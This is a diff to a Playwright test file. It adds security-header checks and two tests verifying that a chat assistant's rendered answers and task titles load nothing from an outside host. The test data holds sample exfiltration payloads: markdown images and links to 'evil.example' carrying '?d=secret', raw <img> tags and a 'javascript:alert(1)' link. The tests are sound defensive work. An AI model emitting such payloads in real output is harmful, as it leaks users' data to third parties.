@@ -76,6 +76,8 @@ function nonceOf(response: Response | null): string {
   });
   expect(headers).toMatchObject({ "x-content-type-options": "nosniff", "x-frame-options": "DENY" });
   expect(headers["referrer-policy"]).toBeTruthy();
+  expect(headers["x-dns-prefetch-control"], "a link is not looked up before it is followed").toBe("off");
+  expect(headers["permissions-policy"]).toBe("camera=(), geolocation=(), microphone=(self), payment=()");
   expect(headers["x-powered-by"]).toBeUndefined();
   return nonce;
 }
@@ -121,3 +123,74 @@ memberTest("a sign-in address that points elsewhere leads to the tasks", async (
     await expect(page).toHaveURL("/tasks");
   }
 });
+
+memberTest(
+  "an answer reaches no other site by itself, and its links say where they lead",
+  async ({ page, chat }) => {
+    const elsewhere: string[] = [];
+    page.on("request", (request) => {
+      if (request.url().includes("evil.example")) elsewhere.push(request.url());
+    });
+    const text = [
+      "Done. ![a cat](https://evil.example/cat.png?d=secret) [your list](https://evil.example/?d=secret)",
+      "[home](javascript:alert(1)) [tasks](/tasks) <img src=https://evil.example/raw.png>",
+    ].join("\n\n");
+    const item = { thread_id: "thr_1", created_at: new Date().toISOString() };
+    const said = { ...item, id: "msg_1", type: "user_message", attachments: [], inference_options: {} };
+    const answer = { ...item, id: "msg_2", type: "assistant_message" };
+    const events = [
+      {
+        type: "thread.created",
+        thread: { id: "thr_1", created_at: item.created_at, items: { data: [], has_more: false } },
+      },
+      {
+        type: "thread.item.done",
+        item: { ...said, content: [{ type: "input_text", text: "hello" }] },
+      },
+      {
+        type: "thread.item.done",
+        item: { ...answer, content: [{ type: "output_text", text, annotations: [] }] },
+      },
+    ];
+    await page.route("**/api/chatkit", (route) =>
+      route.request().postDataJSON().type === "threads.create"
+        ? route.fulfill({
+            contentType: "text/event-stream",
+            body: events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(""),
+          })
+        : route.continue(),
+    );
+    await chat.open();
+    await chat.begin("hello");
+    await expect(chat.answer).toContainText("Done.");
+    await expect(chat.answer).toContainText("a cat");
+    await expect(chat.answer.getByRole("img", { name: "a cat" })).toHaveCount(0);
+    const out = chat.answer.getByRole("link", { name: /^your list \(evil\.example\)/ });
+    await expect(out).toHaveAttribute("rel", "noopener noreferrer nofollow");
+    await expect(out).toHaveAttribute("target", "_blank");
+    // An address that is written out is a link to what it says.
+    const written = chat.answer.getByRole("link", { name: /^https:\/\/evil\.example\/raw\.png/ });
+    await expect(written).toHaveAttribute("href", /^https:\/\/evil\.example\/raw\.png/);
+    await expect(chat.answer.getByRole("link")).toHaveCount(3);
+    await expect(chat.answer.getByRole("link", { name: "tasks" })).toHaveAttribute("href", "/tasks");
+    expect(elsewhere).toEqual([]);
+  },
+);
+
+memberTest(
+  "a task's title is words and nothing else, wherever it is shown",
+  async ({ page, chat, api, tasks }) => {
+    const elsewhere: string[] = [];
+    page.on("request", (request) => {
+      if (request.url().includes("evil.example")) elsewhere.push(request.url());
+    });
+    const title = "![x](https://evil.example/x.png) **milk** <img src=https://evil.example/y.png>";
+    await api.addTask(title);
+    await chat.open();
+    await expect(tasks.done(title)).toBeVisible();
+    await chat.say("what is open?");
+    await chat.say(`complete ${title}`);
+    await expect(chat.log.locator("img")).toHaveCount(0);
+    expect(elsewhere).toEqual([]);
+  },
+);
